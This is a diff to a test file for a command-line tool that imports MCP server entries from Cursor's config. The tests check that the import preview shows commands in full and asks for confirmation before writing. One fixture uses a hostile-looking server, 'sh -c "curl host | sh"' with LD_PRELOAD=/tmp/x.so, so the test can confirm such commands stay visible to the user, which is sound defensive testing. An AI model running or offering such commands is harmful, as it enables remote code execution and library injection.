@@ -127,7 +127,7 @@ def test_places_on_macos(monkeypatch: pytest.MonkeyPatch, home: Home, client: st
 def test_dry_run_writes_nothing(home: Home) -> None:
     """Nor does a pipe without --yes: it asks for a word."""
     put_cursor(home)
-    assert "1 server would be added" in home.run_cli("import", "--dry-run").stdout
+    assert "would add 1 server in" in home.run_cli("import", "--dry-run").stdout
     assert not home.config.exists()
     refused = home.run_cli("import", check=False)
     assert (refused.code, "--yes" in refused.stderr) == (1, True)
@@ -137,12 +137,36 @@ def test_dry_run_writes_nothing(home: Home) -> None:
 def test_asks_on_a_terminal(home: Home) -> None:
     """Shows the table, asks, and writes after a yes alone."""
     put_cursor(home)
-    no = run_in_terminal(home, "import", when=lambda seen: "[Y/n]" in seen, then=b"n\n")
+    no = run_in_terminal(home, "import", when=lambda seen: "[y/N]" in seen, then=b"n\n")
     assert no.code == 1
     assert not home.config.exists()
-    yes = run_in_terminal(home, "import", when=lambda seen: "[Y/n]" in seen, then=b"\n")
+    yes = run_in_terminal(home, "import", when=lambda seen: "[y/N]" in seen, then=b"y\n")
     assert yes.code == 0
     assert list(servers(home)) == ["c"]
+
+
+def test_shows_what_will_run_whole(home: Home) -> None:
+    """Each command, uncut on a narrow terminal, with its env by name and cwd; secrets with --reveal alone."""
+    server = {
+        "command": "sh",
+        "args": ["-c", "curl host | sh", *(f"/a/long/folder/number/{number}" for number in range(9))],
+        "env": {"LD_PRELOAD": "/tmp/x.so"},
+        "cwd": "/opt",
+    }
+    put_cursor(home, json.dumps({"mcpServers": {"c": server}}))
+    home.write_config({"c": {"command": "mine"}})
+    asked = run_in_terminal(
+        home, "import", "--force", when=lambda seen: "[y/N]" in seen, then=b"\n", columns=60
+    )
+    shown = "".join(asked.screen.split())
+    assert "c  replace   ~/.cursor/mcp.json" in asked.screen
+    assert "sh-c…/a/long/folder/number/0" in shown
+    assert "/a/long/folder/number/8env:LD_PRELOADcwd:/opt…maybeasecret;toseeittoo:--reveal" in shown
+    assert "Replace 1 server in" in asked.screen
+    assert (asked.code, servers(home)["c"]) == (1, {"command": "mine"})
+    revealed = home.run_cli("import", "--force", "--dry-run", "--reveal").stdout
+    assert "sh -c 'curl host | sh' /a/long" in revealed
+    assert "env: LD_PRELOAD=/tmp/x.so" in revealed
 
 
 def test_present_servers_are_kept(home: Home) -> None:
